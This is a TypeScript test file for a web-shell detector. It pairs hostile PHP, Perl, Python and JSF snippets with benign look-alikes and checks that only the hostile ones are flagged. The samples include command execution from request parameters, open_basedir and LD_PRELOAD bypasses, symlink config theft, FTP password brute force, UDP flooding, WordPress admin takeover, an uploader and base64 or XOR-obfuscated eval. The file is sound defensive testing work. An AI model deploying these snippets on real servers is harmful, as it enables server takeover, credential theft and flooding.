import { readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import fc from 'fast-check'
import { beforeAll, describe, expect, test } from 'vitest'
import { analyse } from '../analyse.ts'
import { cgiSigns } from '../cgi.ts'
import { type Grammars, loadGrammars } from '../syntax.ts'
import { bytesOf } from './bytes.ts'

// Samples are text in this file and nothing else: no server runs a .ts file, and none of them does anything.

const fileOf = (name: string) => readFileSync(fileURLToPath(import.meta.resolve(name)))
let grammars: Grammars
beforeAll(async () => {
  grammars = await loadGrammars({
    runtime: fileOf('web-tree-sitter/web-tree-sitter.wasm'),
    grammars: new Map([
      ['php', fileOf('@vscode/tree-sitter-wasm/wasm/tree-sitter-php.wasm')],
      ['java', fileOf('@vscode/tree-sitter-wasm/wasm/tree-sitter-java.wasm')],
    ]),
  })
})

const judged = (text: string, path = 'page.php') => analyse({ path, bytes: bytesOf(text), text }, grammars)
const isHit = (verdict: string) => ['web-shell', 'uploader', 'dropper'].includes(verdict)
const html = `<html><body>${'<p>A sentence of a page about gardens.</p>'.repeat(300)}`
const packed = 'QUJD'.repeat(40)

/** What a stranger's page does, and what an everyday page does that looks like it. */
const PAIRS: readonly (readonly [name: string, page: string, twin: string])[] = [
  [
    'limits of the host are undone',
    '<?php ini_restore("safe_mode"); ini_restore("open_basedir"); echo file_get_contents($_GET["f"]);',
    '<?php echo ini_get("safe_mode"), ini_get("open_basedir");',
  ],
  [
    'files past the limits of the host',
    '<?php $f = $_POST["f"]; copy("compress.zlib://" . $f, $t); echo htmlspecialchars(file_get_contents($t));',
    '<?php $log = "/var/log/app.gz"; foreach (file("compress.zlib://$log") as $line) echo htmlspecialchars($line);',
  ],
  [
    'a library for another program',
    '<?php file_put_contents("/tmp/a.so", $x); putenv("LD_PRELOAD=/tmp/a.so"); mail("a@example.org", "", "");',
    '<?php putenv("LC_ALL=C"); mail("a@example.org", "Report", "All is well");',
  ],
  [
    'accounts of the web server',
    '<?php $s = new COM("IIS://localhost/w3svc/1/Root"); echo $s->AnonymousUserName, $s->AnonymousUserPass;',
    '<?php $s = new COM("IIS://localhost/w3svc/1"); echo $s->ServerState;',
  ],
  [
    'an account of the machine',
    '<?php $u = new COM("Shell.Users"); $n = $u->create("guest2"); $n->changePassword("example", "");',
    '<?php $w = new COM("Word.Application"); $d = $w->Documents->Open("letter.doc");',
  ],
  [
    'code out of a style sheet',
    `<?php $x = '<xsl:value-of select="p:function(\\'assert\\',string(.))"/>'; $p = new XSLTProcessor(); $p->registerPHPFunctions(); $p->importStyleSheet($x);`,
    `<?php $x = '<xsl:value-of select="p:function(\\'date\\',string(.))"/>'; $p = new XSLTProcessor(); $p->registerPHPFunctions(); $p->importStyleSheet($x);`,
  ],
  [
    'connections are passed on',
    '<?php $s = socket_create(AF_INET, SOCK_STREAM, 0); socket_bind($s, $_GET["ip"]); socket_listen($s); while ($c = socket_accept($s)) { $o = socket_create(AF_INET, SOCK_STREAM, 0); socket_connect($o, "127.0.0.1", 3389); }',
    '<?php $s = socket_create(AF_INET, SOCK_STREAM, 0); socket_bind($s, "127.0.0.1", 9000); socket_listen($s); while ($c = socket_accept($s)) socket_write($c, "hello");',
  ],
  [
    'a connection where the request says',
    '<?php $s = fsockopen($_GET["host"], $_GET["port"]); fwrite($s, file_get_contents("php://input")); while (!feof($s)) echo fread($s, 1024);',
    '<?php $s = @fsockopen($_GET["host"], 80, $e, $m, 2); echo $s ? "up" : "down";',
  ],
  [
    'the whole machine is looked through',
    '<?php foreach (file("/etc/passwd") as $l) { $u = explode(":", $l); symlink("/home/$u[0]/public_html/config.php", "$u[0].txt"); }',
    '<?php foreach (file("users.txt") as $l) { $u = explode(":", $l); echo "<li>", htmlspecialchars($u[0]), " ~/public_html"; }',
  ],
  [
    'passwords of a list are tried',
    '<?php $p = explode("\\n", $_POST["passwords"]); foreach (explode("\\n", $_POST["users"]) as $u) foreach ($p as $w) if (@ftp_login($c, $u, $w)) echo $u;',
    '<?php $c = ftp_connect("ftp.example.org"); if (ftp_login($c, USER, PASSWORD)) foreach (ftp_nlist($c, ".") as $f) echo $f;',
  ],
  [
    'other machines are flooded',
    '<?php $end = time() + $_GET["time"]; while (time() < $end) { $f = fsockopen("udp://$_GET[host]", 80); fwrite($f, $out); }',
    '<?php $f = fsockopen("udp://stats.example.org", 8125); fwrite($f, "page:1|c"); fclose($f);',
  ],
  [
    'an administrator for whoever asks',
    '<?php require("../wp-load.php"); foreach (get_users("role=administrator") as $u) { wp_set_auth_cookie($u->ID); exit; }',
    '<?php function after_login($id) { wp_set_auth_cookie($id); } add_action("sso_done", "after_login");',
  ],
  [
    'the connection is handed to a program',
    '<?php system("./find " . $_SERVER["REMOTE_ADDR"] . " " . $_SERVER["REMOTE_PORT"]);',
    '<?php error_log("visit from " . $_SERVER["REMOTE_ADDR"] . ":" . $_SERVER["REMOTE_PORT"]);',
  ],
  [
    'somebody is told where it lies',
    '<?php $a = $_SERVER["SCRIPT_FILENAME"]; $b = $_SERVER["DOCUMENT_ROOT"]; $c = $_SERVER["SERVER_ADDR"]; mail("a@example.org", "new", "$a $b $c");',
    '<?php $a = $_SERVER["REMOTE_ADDR"]; $b = $_POST["text"]; mail("office@example.org", "A question", "$b (from $a)");',
  ],
  [
    'functions under packed names',
    `<?php $n = array(base64_decode('Y3VybF9pbml0'), base64_decode('Y3VybF9leGVj'), base64_decode('ZXhwbG9kZQ==')); $n[1]($n[0]($n[2](',', $x)));`,
    `<?php $n = array('jpeg' => 'imagecreatefromjpeg', 'png' => 'imagecreatefrompng'); $i = $n[$t]('a.png');`,
  ],
  [
    'code of pieces that runs text',
    `<?php $k = 'ev' . 'al'; $c = create_function('$v', $k . '(gzinflate($v));'); $c($x);`,
    `<?php $c = create_function('$a,$b', 'return $a' . '-' . '$b;'); usort($list, $c);`,
  ],
  [
    'names mixed bit by bit',
    `<?php $a = ('!'^'\`').('('^'['); $b = ('%'^'\`').('#'^'|'); $$a = $b('x'); ${'$'}{('#'^'|')}($a);`,
    '<?php $a = 1 ^ 2; echo $a & 7;',
  ],
  [
    'packed text is run, but does not parse',
    `<?php $x = "eval(base64_decode("${packed}"));"; f($x; ?>`,
    `<?php $known = array('/eval\\(base64_decode\\(/i', '/gzinflate/'); foreach ($known as $p; ?>`,
  ],
  [
    'upload under a name nobody assigns',
    '<?php if ($f) { copy($f, $f_name); echo "done"; } ?><form method=post enctype=multipart/form-data><input type=file name=f></form>',
    '<?php $f_name = "avatar.png"; copy("default.png", $f_name);',
  ],
  [
    'a client for any database',
    '<?php $c = mysql_connect($_POST["host"], $_POST["user"], $_POST["pass"]); $r = mysql_query($_POST["query"]); while ($l = mysql_fetch_row($r)) print_r($l);',
    '<?php $c = mysql_connect("localhost", "site", "secret"); $r = mysql_query("select * from news where id = " . intval($_GET["id"]));',
  ],
  [
    'a page that grows',
    '<?php $f = fopen(__FILE__, "a"); fwrite($f, "<p>" . $_POST["what"] . "</p>"); fclose($f);',
    '<?php $f = fopen("guests.txt", "a"); fwrite($f, "<p>" . htmlspecialchars($_POST["what"]) . "</p>"); fclose($f);',
  ],
  [
    'a page that writes what runs text',
    `<?php $s = base64_encode(php_strip_whitespace($argv[1])); $c = '<?php $code="' . $s . '"; eval(base64_decode($code)); ?>'; file_put_contents($argv[2], $c);`,
    `<?php $c = '<?php return ' . var_export($settings, true) . ';'; file_put_contents('cache.php', $c);`,
  ],
  ['a text is included', "<?php\ninclude 'note.txt';", '<?php readfile("note.txt");'],
  [
    'a folder of any name is listed',
    '<?php $d = $_GET["d"]; foreach (scandir($d) as $f) echo "<a href=?d=$d/$f>$f</a>"; readfile($d);',
    '<?php foreach (scandir("pictures") as $f) if (substr($f, -4) == ".jpg") echo "<img src=pictures/$f>";',
  ],
  [
    'names given by a text',
    `<?php yaml_parse("x: !{$_REQUEST['t']} y", 0, $n, array('!a' => 'preg_replace'));`,
    `<?php yaml_parse($text, 0, $n, array('!date' => 'read_date'));`,
  ],
  [
    'the visitor’s code in much HTML',
    `${html}<?php $f = $_GET['f']; $f($_POST['a']); ?>`,
    `${html}<?php $f = 'date'; echo $f('Y'); ?>`,
  ],
  [
    'lines that end as they did on old machines',
    "<?php // a comment\rsystem($_GET['c']);\r",
    "<?php // system($_GET['c']);\recho 1;\r",
  ],
  [
    'a variable that begins empty',
    `<?php $n = $n . "as"; $n .= "se"; $n = $n . "rt"; $n($_POST['a']);`,
    `<?php $n = $n . "str"; $n .= "len"; echo $n($_POST['a']);`,
  ],
]

describe('PHP pages by what they cannot do without', () => {
  test.each(PAIRS)('%s', (_name, page, twin) => {
    expect([isHit(judged(page).verdict), isHit(judged(twin).verdict)]).toEqual([true, false])
  })

  test('a class beside a page of tools does not make it part of something', () => {
    const zip = 'class Zip { function add($f) { $this->files[] = $f; } }'
    const tools = '$d = $_GET["d"]; unlink($d); rename($d, $_GET["to"]); chmod($d, 0777); mkdir($_GET["n"]); echo 1; echo 2;'
    expect(isHit(judged(`<?php ${zip} ${tools}`).verdict)).toBe(true)
    expect(isHit(judged(`<?php class Files extends Controller { function run() { ${tools} } }`).verdict)).toBe(false)
  })
})

describe('programs of the server under any name', () => {
  test.each([
    ['Perl', '#!/usr/bin/perl\nuse CGI;\n$q = new CGI;\n$c = $q->param("c");\nprint `$c`;', true],
    [
      'Perl of the old kind',
      '#!/usr/bin/perl\nread(STDIN, $in, $ENV{"CONTENT_LENGTH"});\n$run = $in{"c"};\n$cmd = "cd /; $run";\nopen(OUT, "$cmd |");',
      true,
    ],
    [
      'Perl, a step between',
      '#!/usr/bin/perl\n&read($ENV{"QUERY_STRING"});\n$run = $in{"c"};\n$cmd = "$run 2>&1";\nsystem($cmd);',
      true,
    ],
    [
      'Python',
      '#!/usr/bin/env python\nimport cgi, os\nform = cgi.FieldStorage()\nc = form.getvalue("c")\nprint(os.popen(c).read())',
      true,
    ],
    ['a fixed command', '#!/usr/bin/perl\nuse CGI;\n$q = new CGI;\n$d = $q->param("d");\nsystem("/usr/bin/cal", $d);', false],
    ['no visitor', '#!/usr/bin/perl\n$c = $ARGV[0];\nsystem($c);', false],
  ])('%s', (_name, text, hit) => {
    expect(isHit(judged(text, 'page.php').verdict)).toBe(hit)
    expect(cgiSigns(text).length > 0).toBe(hit)
  })

  test('any text is read', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom('$c', '=', 'param(', ';', '\n', 'system(', '`', '"', 'QUERY_STRING', '|', 'open(A,'), {
          maxLength: 60,
        }),
        parts => {
          expect(cgiSigns(parts.join(' ')).length).toBeLessThanOrEqual(1)
        },
      ),
    )
  })
})

test('expressions of a page of Java run under any name', () => {
  const page = `<html xmlns:h="http://java.sun.com/jsf/html"><body>\${view.getClass().getClassLoader().loadClass("java.lang.Runtime").getMethod("exec","".getClass()).invoke(view.getClass().getClassLoader().loadClass("java.lang.Runtime").getMethod("getRuntime").invoke(null), request.getParameter("c"))}</body></html>`
  expect(isHit(judged(page).verdict)).toBe(true)
  expect(isHit(judged('<html><body>${user.name} #{order.total}</body></html>').verdict)).toBe(false)
})
